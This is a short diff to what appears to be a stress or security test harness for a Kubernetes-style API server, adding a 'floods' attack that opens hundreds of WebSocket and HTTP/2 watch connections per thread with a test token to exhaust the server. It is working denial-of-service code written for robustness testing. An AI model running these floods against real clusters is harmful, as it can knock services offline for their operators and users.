@@ -320,6 +320,26 @@ def unread(options) -> None:
     attack("unread", options, prepare)
 
 
+def floods(options) -> None:
+    """Watches that begin with all objects, two thousand at a time, over WebSocket and HTTP/2."""
+    upgrade = (f"GET {PODS}?watch=1 HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {servers.MALLORY_TOKEN}\r\n"
+               "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+               "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nOrigin: http://h\r\n\r\n").encode()
+
+    def flood(target):
+        with contextlib.ExitStack() as opened:
+            for _ in range(500):
+                opened.enter_context(contextlib.closing(target.raw(upgrade)))
+            for _ in range(2):
+                watches = http2_requests(250, f"{PODS}?watch=1", window=1 << 20)
+                opened.enter_context(contextlib.closing(target.raw(watches)))
+
+    def prepare(target, parts):
+        parts.enter_context(threads(2, lambda: flood(target)))
+
+    attack("floods", options, prepare)
+
+
 def bursts(options) -> None:
     """A thousand cheap requests at once on an HTTP/2 connection, again and again."""
 
@@ -480,7 +500,7 @@ def until_gone(target: Target, name: str) -> None:
         time.sleep(0.01)
 
 
-ATTACKS = {work.__name__: work for work in [patches, documents, lists, selectors, elements, unread, bursts,
+ATTACKS = {work.__name__: work for work in [patches, documents, lists, selectors, elements, unread, floods, bursts,
                                            bodies, connections, namespaces]}
 
 
